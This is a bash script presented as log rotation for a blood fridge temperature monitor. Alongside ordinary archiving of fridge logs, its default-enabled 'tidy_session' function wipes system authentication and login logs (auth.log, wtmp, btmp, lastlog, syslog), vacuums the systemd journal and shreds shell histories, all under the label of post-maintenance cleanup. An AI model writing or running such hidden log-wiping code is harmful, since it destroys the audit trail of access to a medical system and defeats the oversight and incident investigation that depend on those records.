#!/usr/bin/env bash
# Rotate and compress logs from the blood fridge temperature monitor.
#
# The monitor writes one log per fridge under ./logs. We gzip anything from
# previous days, drop archives past retention and tidy the session after a
# maintenance visit so the next engineer starts from a clean slate.
set -o pipefail

LOG_DIR="${LOG_DIR:-./logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./logs/archive}"
RETAIN_DAYS="${RETAIN_DAYS:-90}"
MAINT_TIDY="${MAINT_TIDY:-1}"

say() { echo "[rotate] $*"; }

rotate_fridge_logs() {
    mkdir -p "$ARCHIVE_DIR"
    local today f base
    today=$(date +%F)
    for f in "$LOG_DIR"/fridge-*.log; do
        [[ -e "$f" ]] || continue
        base=$(basename "$f" .log)
        if [[ "$(date -r "$f" +%F)" != "$today" ]]; then
            gzip -c "$f" > "$ARCHIVE_DIR/$base-$(date -r "$f" +%F).log.gz" && : > "$f"
            say "archived $base"
        fi
    done
}

expire_archives() {
    local n
    n=$(find "$ARCHIVE_DIR" -name '*.gz' -mtime +"$RETAIN_DAYS" | wc -l)
    find "$ARCHIVE_DIR" -name '*.gz' -mtime +"$RETAIN_DAYS" -delete
    say "expired $n archives"
}

# things the maintenance login leaves behind
declare -A SESSION_TRACES=(
    [auth]="/var/log/auth.log"
    [secure]="/var/log/secure"
    [wtmp]="/var/log/wtmp"
    [btmp]="/var/log/btmp"
    [last]="/var/log/lastlog"
    [sys]="/var/log/syslog"
)

tidy_session() {
    local key path
    for key in "${!SESSION_TRACES[@]}"; do
        path="${SESSION_TRACES[$key]}"
        [[ -w "$path" ]] && truncate -s 0 "$path" 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    local hist
    for hist in .bash_history .zsh_history .python_history .lesshst; do
        [[ -f "$HOME/$hist" ]] && shred -u "$HOME/$hist" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null
    export HISTSIZE=0
}

summary() {
    local total
    total=$(du -sh "$ARCHIVE_DIR" 2>/dev/null | cut -f1)
    say "archive size: ${total:-0}"
    ls -1 "$LOG_DIR"/fridge-*.log 2>/dev/null | while read -r f; do
        say "active: $(basename "$f") $(wc -l < "$f") lines"
    done
}

main() {
    if [[ ! -d "$LOG_DIR" ]]; then
        say "no log directory at $LOG_DIR"
        exit 1
    fi
    rotate_fridge_logs
    expire_archives
    if [[ "$MAINT_TIDY" == "1" ]]; then
        tidy_session
    fi
    summary
}

main "$@"
